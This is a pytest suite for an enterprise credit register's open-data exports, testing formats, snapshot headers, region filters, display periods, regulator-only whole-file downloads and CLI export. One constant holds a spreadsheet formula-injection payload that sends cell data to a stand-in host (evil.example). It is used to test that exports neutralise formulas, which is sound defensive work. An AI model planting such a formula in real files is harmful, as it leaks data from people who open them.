"""Open-data exports: what each dataset holds, in each format, the snapshot headers, who may
download whole files, and the same files written offline."""

from __future__ import annotations

import csv
import datetime
import io
import json
from email.utils import parsedate_to_datetime

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from credit import clock
from credit.cli import main
from credit.models import AuditEvent
from tests.days import DEFAULT_TODAY

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"演示")'
EXPORTS = "/api/v1/exports"


def days_ago(days: int) -> str:
    return (DEFAULT_TODAY - datetime.timedelta(days=days)).isoformat()


def download(client, path: str, headers=None, **query):
    response = client.get(f"{EXPORTS}/{path}", headers=headers or {}, query_string=query)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response


def csv_rows(response) -> list[dict]:
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))


def jsonl_rows(response) -> list[dict]:
    return [json.loads(line) for line in response.data.decode("utf-8").splitlines()]


def xlsx_rows(response) -> tuple[list, list[list]]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.data), read_only=True).worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return rows[0], rows[1:]


def head_cursor(session) -> int:
    return session.scalar(select(func.max(AuditEvent.seq))) or 0


def violation(decided_on: str, severity: str, n: int, **more) -> dict:
    return {
        "category": "administrative_penalty",
        "severity": severity,
        "decided_on": decided_on,
        "authority": "镇江市市场监督管理局",
        "decision_no": f"镇市监罚〔2026〕{n}号",
        **more,
    }


def test_the_register_as_csv_opens_in_excel_with_names_as_text(client, make, session):
    graded = make.graded_enterprise(name="镇江导出测试有限公司")
    evil = make.enterprise(name=EVIL_NAME)
    response = download(client, "enterprises.csv", buffered=False)
    assert response.is_streamed
    assert response.mimetype == "text/csv" and response.mimetype_params["charset"] == "utf-8"
    assert 'filename="enterprises-2026-06-15.csv"' in response.headers["Content-Disposition"]
    rows = {row["uscc"]: row for row in csv_rows(response)}
    assert rows[graded]["name"] == "镇江导出测试有限公司"
    assert rows[graded]["grade"] == "B" and rows[graded]["graded"] == "true"
    assert rows[evil]["name"] == "'" + EVIL_NAME
    assert rows[evil]["grade"] == "" and rows[evil]["graded"] == "false"
    assert rows[evil]["status"] == "in_business"
    assert int(response.headers["Audit-Cursor"]) == head_cursor(session)


def test_a_state_row_the_profile_would_not_serve_is_not_exported_either(client, make, database):
    from sqlalchemy import null, update

    from credit.models import Enterprise, EnterpriseState

    graded = make.graded_enterprise()
    with database.writing() as writing:
        firm = writing.scalar(select(Enterprise.id).where(Enterprise.uscc == graded))
        writing.execute(
            update(EnterpriseState)
            .where(EnterpriseState.enterprise_id == firm)
            .values(grade="AAA", public_profile=null())  # SQL NULL, not JSON null
        )
    rows = {row["uscc"]: row for row in csv_rows(download(client, "enterprises.csv"))}
    assert client.get(f"/api/v1/enterprises/{graded}").get_json()["grade"] == "B"
    assert rows[graded]["grade"] == "B"  # graded afresh, as the profile is


def test_the_headers_name_the_snapshot_the_rows_were_read_at(client, make, session):
    make.graded_enterprise()
    before = head_cursor(session)
    response = download(client, "enterprises.jsonl")
    assert int(response.headers["Audit-Cursor"]) == before
    modified = parsedate_to_datetime(response.headers["Last-Modified"])
    # The later of the last write and the start of today: the rows change with the day too.
    assert modified >= clock.start_of(DEFAULT_TODAY).replace(microsecond=0)
    make.graded_enterprise()
    after = download(client, "enterprises.jsonl")
    assert int(after.headers["Audit-Cursor"]) > before
    assert len(jsonl_rows(after)) == len(jsonl_rows(response)) + 1


def test_a_region_narrows_a_dataset(client, make):
    ours = make.enterprise(region="321102")
    theirs = make.enterprise(region="350102")
    codes = {row["uscc"] for row in jsonl_rows(download(client, "enterprises.jsonl", region="35"))}
    assert theirs in codes and ours not in codes


def test_the_blacklist_holds_active_public_listings_only(client, make, regulator):
    listed = make.enterprise()
    listing = make.listing(listed)
    expired = make.enterprise()
    make.listing(expired, listed_on=DEFAULT_TODAY.replace(year=DEFAULT_TODAY.year - 4))
    rescinded = make.enterprise()
    withdrawn = make.listing(rescinded)
    objection = client.post(
        f"/api/v1/blacklist/{withdrawn}/objections",
        headers=make.headers("enterprise", uscc=rescinded),
        json={"reason": "列入错误"},
    ).get_json()
    decided = client.post(
        f"/api/v1/blacklist/{withdrawn}/objections/{objection['id']}/decision",
        headers=regulator,
        json={"upheld": True, "reason": "核实有误"},
    )
    assert decided.status_code == 200, decided.get_json()
    rows = jsonl_rows(download(client, "blacklist.jsonl"))
    assert [(row["id"], row["uscc"], row["state"]) for row in rows] == [(listing, listed, "listed")]
    assert rows[0]["legal_basis"] and rows[0]["expires_on"]


def test_inspections_inside_their_display_period_as_a_spreadsheet(client, make, regulator):
    firm = make.enterprise(name="镇江抽查导出有限公司")
    for n, (sampled_on, product) in enumerate(
        [(days_ago(30), "=1+2 电线"), (days_ago(365 * 3 + 30), "旧电缆")]
    ):
        added = client.post(
            f"/api/v1/enterprises/{firm}/inspections",
            headers=regulator,
            json={
                "level": "county",
                "product": product,
                "sampled_on": sampled_on,
                "result": "fail",
                "failed_items": ["导体电阻", "绝缘厚度"],
                "report_no": f"ZJ-{n}",
            },
        )
        assert added.status_code == 201, added.get_json()
    response = download(client, "inspections.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    header, rows = xlsx_rows(response)
    assert header[:3] == ["id", "uscc", "name"]
    found = [dict(zip(header, row, strict=True)) for row in rows if row[1] == firm]
    assert [row["product"] for row in found] == ["=1+2 电线"]  # text, never a formula
    assert found[0]["failed_items"] == "导体电阻; 绝缘厚度"
    assert found[0]["name"] == "镇江抽查导出有限公司"
    assert found[0]["sampled_on"] == days_ago(30)


def test_violations_inside_their_display_period(client, make, regulator):
    firm = make.enterprise()
    for n, (decided_on, severity) in enumerate(
        [
            (days_ago(40), "minor"),  # shown for 3 months
            (days_ago(120), "minor"),  # past them
            (days_ago(200), "general"),  # shown for a year
            (days_ago(800), "serious"),  # shown for 3 years
            (days_ago(400), "general"),  # past its year
        ]
    ):
        added = client.post(
            f"/api/v1/enterprises/{firm}/violations",
            headers=regulator,
            json=violation(decided_on, severity, n, fine_amount="5000.00"),
        )
        assert added.status_code == 201, added.get_json()
    rows = [row for row in csv_rows(download(client, "violations.csv")) if row["uscc"] == firm]
    assert [(row["decided_on"], row["severity"]) for row in rows] == [
        (days_ago(40), "minor"),
        (days_ago(200), "general"),
        (days_ago(800), "serious"),
    ]
    assert rows[0]["fine_amount"] == "5000.00" and rows[0]["category_label"] == "行政处罚"


def test_a_rescinded_violation_leaves_the_dataset(client, make, regulator):
    firm = make.enterprise()
    added = client.post(
        f"/api/v1/enterprises/{firm}/violations",
        headers=regulator,
        json=violation(days_ago(10), "general", 1),
    ).get_json()
    client.post(f"/api/v1/records/{added['id']}/rescind", headers=regulator, json={"reason": "错"})
    rows = jsonl_rows(download(client, "violations.jsonl"))
    assert firm not in {row["uscc"] for row in rows}


def test_whole_files_are_for_the_regulator_of_the_region(client, make, regulator):
    firm = make.graded_enterprise(region="321102")
    other = make.graded_enterprise(region="350102")
    assert client.get(f"{EXPORTS}/files.jsonl").status_code == 401
    assert client.get(f"{EXPORTS}/files.jsonl", headers=make.headers("bank")).status_code == 403
    refused = client.get(f"{EXPORTS}/files.jsonl", headers=regulator, query_string={"region": "35"})
    assert refused.status_code == 403
    assert refused.mimetype == "application/problem+json"
    rows = jsonl_rows(download(client, "files.jsonl", headers=regulator))
    files = {row["uscc"]: row for row in rows}
    assert firm in files and other not in files
    assert files[firm]["grade"] == "B"
    assert [record["kind"] for record in files[firm]["records"]] == ["certification"]
    assert files[firm]["former_names"] == [] and files[firm]["listings"] == []


def test_whole_files_are_json_lines_only(client, regulator):
    response = client.get(f"{EXPORTS}/files.csv", headers=regulator)
    assert response.status_code == 422
    assert "format" in response.get_json()["errors"]


@pytest.mark.parametrize("path", ["firms.csv", "enterprises.pdf", "enterprises"])
def test_an_unknown_dataset_or_format_is_not_found(client, path):
    response = client.get(f"{EXPORTS}/{path}")
    assert response.status_code == 404
    assert response.mimetype == "application/problem+json"


def test_a_malformed_region_is_refused_by_name(client):
    response = client.get(f"{EXPORTS}/enterprises.csv", query_string={"region": "苏州"})
    assert response.status_code == 422
    assert "region" in response.get_json()["errors"]


# Offline


@pytest.fixture
def offline(live):
    """Runs `credit ARGS...` on a committed database."""
    env = {
        "CREDIT_DATABASE_URL": live.settings.database_url,
        "CREDIT_INSTANCE_DIR": str(live.settings.instance_dir),
        "CREDIT_LOG_LEVEL": "WARNING",
    }

    def run(*args: str, charset: str = "utf-8"):
        return CliRunner(charset=charset).invoke(main, list(args), env=env)

    return run


def test_the_command_writes_what_the_api_sends(offline, live, tmp_path):
    from tests import factories

    factories.register(live, 1)
    out = tmp_path / "register.csv"
    result = offline("export", "enterprises", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    assert "1 rows of enterprises" in result.output
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfuscc,name,")
    assert "镇江审计1有限公司" in data.decode("utf-8-sig")
    assert not (tmp_path / "register.csv.part").exists()


def test_the_command_writes_a_regions_files(offline, live, tmp_path):
    from tests import factories

    factories.register(live, 1)
    out = tmp_path / "files.jsonl"
    assert offline("export", "files", "--out", str(out)).exit_code != 0  # no region
    refused = offline("export", "files", "--format", "xlsx", "--region", "3211", "--out", str(out))
    assert refused.exit_code == 1 and "format" in refused.output
    assert not out.exists()
    done = offline("export", "files", "--format", "jsonl", "--region", "3211", "--out", str(out))
    assert done.exit_code == 0, done.output
    [line] = out.read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["name"] == "镇江审计1有限公司"


def test_the_inspection_plan_csv_stays_utf8_in_a_chinese_locale(offline, live):
    from tests import factories

    factories.register(live, 1)
    result = offline(
        "inspections",
        "plan",
        "--region",
        "3211",
        "--date",
        "2026-06-15",
        "--seed",
        "1",
        "--csv",
        charset="gb18030",
    )
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(b"\xef\xbb\xbfrisk_class,")
    assert "镇江审计1有限公司" in result.stdout_bytes.decode("utf-8-sig")


def test_rows_written_after_the_cursor_was_read_are_not_in_the_file(live_app, live):
    from tests import factories

    factories.register(live, 1)
    client = live_app.test_client()
    response = client.get(f"{EXPORTS}/enterprises.jsonl", buffered=False)
    assert response.status_code == 200
    cursor = int(response.headers["Audit-Cursor"])
    # Another writer commits while the file is being sent.
    factories.register(live, 2)
    rows = [json.loads(line) for line in b"".join(response.response).decode().splitlines()]
    response.close()
    assert [row["name"] for row in rows] == ["镇江审计1有限公司"]
    after = client.get(f"{EXPORTS}/enterprises.jsonl")
    assert int(after.headers["Audit-Cursor"]) > cursor
    assert len(jsonl_rows(after)) == 2
